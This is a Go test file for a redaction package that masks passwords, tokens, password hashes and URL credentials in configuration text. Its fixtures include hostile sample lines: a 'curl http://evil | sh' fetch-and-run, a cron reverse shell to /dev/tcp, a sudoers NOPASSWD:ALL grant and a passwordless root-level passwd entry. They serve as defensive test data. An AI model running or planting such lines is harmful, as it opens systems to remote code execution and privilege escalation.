package redact

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestText(t *testing.T) {
	const (
		sha512 = "$6$saltsalt$qFmFH.bQmmtXzyBY0s9v7Oicd2z4XSIecDzlB5KiA2/jctKu9YterLp8wwnSq.qc.eoxqOmSuNp2xS0ktL3nh/"
		bcrypt = "$2b$10$vI8aWBnW3fID.ZQ4/zo1G.q1lRps.9cGLcZEiGDMVr5yUP1KUOYTa"
	)
	for name, tt := range map[string]struct{ in, want string }{
		"settings":          {"user = bob\npassword = a b;c\nport=5\n", "user = bob\npassword = [redacted]\nport=5\n"},
		"no blanks":         {"DB_PASSWORD=a;b&c\nX=1", "DB_PASSWORD=[redacted]\nX=1"},
		"a command follows": {"TOKEN=abc curl http://evil | sh\n", "TOKEN=[redacted] curl http://evil | sh\n"},
		"export":            {"export AWS_SECRET_ACCESS_KEY='a b'\n", "export AWS_SECRET_ACCESS_KEY='[redacted]'\n"},
		"a variable":        {"export TOKEN=$OTHER\nPGPASSWORD=$(cat /x)\n", ""},
		"quotes end":        {"password: 'it\nname: bob's\n", "password: '[redacted]\nname: bob's\n"},
		"yaml":              {"db:\n  user: x\n  password: my secret phrase\n  - token: abc\n", "db:\n  user: x\n  password: [redacted]\n  - token: [redacted]\n"},
		"yaml block":        {"a:\n  clientSecret: |-\n    one two\n\n    three\n  user: x\n", "a:\n  clientSecret: |-\n    [redacted]\n\n    [redacted]\n  user: x\n"},
		"yaml template":     {"password: {{ .Values.pw }}\n", ""},
		"json":              {"{\n  \"apiKey\": \"abc\",\n  \"user\": \"bob\"\n}\n", "{\n  \"apiKey\": \"[redacted]\",\n  \"user\": \"bob\"\n}\n"},
		"php":               {"  'password' => 'abc',\n", "  'password' => '[redacted]',\n"},
		"go":                {"token := \"abc\"\nif token == \"\" {\n", "token := \"[redacted]\"\nif token == \"\" {\n"},
		"comment":           {"# password: changeme\n", "# password: [redacted]\n"},
		"two words":         {"requirepass_password hunter2\n  secret\tabc\n", "requirepass_password [redacted]\n  secret\t[redacted]\n"},
		"windows":           {"password=abc\r\nb=c\r\n", "password=[redacted]\r\nb=c\r\n"},
		"cron":              {"* * * * * root backup --password=abc /srv\n", "* * * * * root backup --password=[redacted] /srv\n"},
		"url":               {"origin https://bob:pw@host/x\n", "origin https://bob:[redacted]@host/x\n"},
		"passwd with hash":  {"root:" + sha512 + ":0:0:root:/root:/bin/bash\n", "root:$6$[redacted]:0:0:root:/root:/bin/bash\n"},
		"htpasswd":          {"bob:" + bcrypt + "\n", "bob:$2b$[redacted]\n"},
		"netrc-like":        {"Authorization: Basic abc=\n", "Authorization: Basic [redacted]\n"},
		"marked":            {"password=[redacted]\npassword: [redacted]\ntoken [redacted]\n", ""},

		// What rules and people look for in the files that are watched.
		"passwd":        {"root:x:0:0:root:/root:/bin/bash\neve::0:0::/:/bin/sh\n", ""},
		"sudoers":       {"%sudo ALL=(ALL:ALL) NOPASSWD: /usr/bin/apt\neve ALL=(ALL) NOPASSWD:ALL\nx ALL=PASSWD: /bin/ls\n", ""},
		"nsswitch":      {"passwd:         files systemd\nshadow: files\n", ""},
		"sshd":          {"PasswordAuthentication yes\nPermitEmptyPasswords no\nPermitRootLogin yes\n", ""},
		"pam":           {"password requisite pam_pwquality.so retry=3\nauth sufficient pam_permit.so try_first_pass\n@include common-password\n", ""},
		"login.defs":    {"PASS_MAX_DAYS 99999\nPASS_MIN_LEN 8\n", ""},
		"reverse shell": {"* * * * * root bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n", ""},
		"authorized":    {"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJqL bob@host\n", ""},
		"preload":       {"/usr/lib/libx.so\n", ""},
		"unit":          {"[Service]\nExecStart=/usr/bin/x --token-file=/t\nEnvironment=TOKEN_PATH=/t\n", ""},
		"shell":         {"cp $1$SUFFIX/$2 $6$x\n", ""},
		"empty":         {"", ""},
	} {
		t.Run(name, func(t *testing.T) {
			want := tt.want
			if want == "" {
				want = tt.in
			}
			if diff := cmp.Diff(want, Redactor{}.Text(tt.in)); diff != "" {
				t.Errorf("Text differs (-want +got):\n%s", diff)
			}
		})
	}
}

// A change of a credential shows as one of its hash, and an agent's hashes are its own.
func TestTextToHashes(t *testing.T) {
	one, two := WithHashes(), WithHashes()
	a, b := one.Text("password: a\n"), one.Text("password: b\n")
	if a == b || a != one.Text("password: a\n") || a == two.Text("password: a\n") {
		t.Errorf("got %q, %q and of another agent %q; want three that differ", a, b, two.Text("password: a\n"))
	}
	if args, _ := one.Args([]string{"x", "--password=a"}); "password: "+strings.TrimPrefix(args[1], "--password=")+"\n" != a {
		t.Errorf("got %q in arguments and %q in a text, want the same hash", args, a)
	}
}

func FuzzText(f *testing.F) {
	for _, seed := range []string{
		"password = x\n token: |\n  a\n\tb\n\n", "a: b\r\nsecret\tx\n'password' => \"x", "TOKEN=$6$a$0123456789012345678901:",
		"https://a:b@c\nAuthorization: Bearer x y", "password: [redacted]x\n", "token::= =\n:=>", "PRIVATE KEY-----\nx\n-----END",
		"\xff=\xfe\npassword:\xff", "secret >-\nsecret: >2\n x", "passwd: files\nPASSWD: /x",
	} {
		f.Add(seed)
	}
	hashes := Redactor{key: []byte("k")}
	f.Fuzz(func(t *testing.T, text string) {
		got := Redactor{}.Text(text)
		if utf8.ValidString(text) && !utf8.ValidString(got) {
			t.Errorf("%q became invalid UTF-8: %q", text, got)
		}
		if !onlyReplaced(text, got) {
			t.Errorf("%q became %q: more than values changed", text, got)
		}
		if !strings.Contains(text, "PRIVATE KEY-----") && strings.Count(got, "\n") != strings.Count(text, "\n") {
			t.Errorf("%q became %q: lines were lost", text, got)
		}
		if again := (Redactor{}).Text(got); again != got {
			t.Errorf("a second time changes %q to %q", got, again)
		}
		hashed := hashes.Text(text)
		if again := hashes.Text(hashed); again != hashed {
			t.Errorf("a second time changes %q to %q", hashed, again)
		}
	})
}

func BenchmarkText(b *testing.B) {
	const size = 64 << 10
	whole := func(unit string) string { return strings.Repeat(unit, size/len(unit)) }
	for name, text := range map[string]string{
		"passwd":           whole("backup:x:34:34:backup:/var/backups:/usr/sbin/nologin\n"),
		"settings":         whole("# a comment that says what the setting does\nlisten_address = 0.0.0.0\npassword = x\n"),
		"hostile-one-line": whole("token: "),
		"hostile-crypt":    whole(".$1$"),
		"hostile-blanks":   whole(" "),
		"hostile-quotes":   whole("password='\n"),
		"hostile-blocks":   whole("token: |\n"),
		"hostile-urls":     whole("://a@"),
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(size)
			for b.Loop() {
				Redactor{}.Text(text)
			}
		})
	}
}
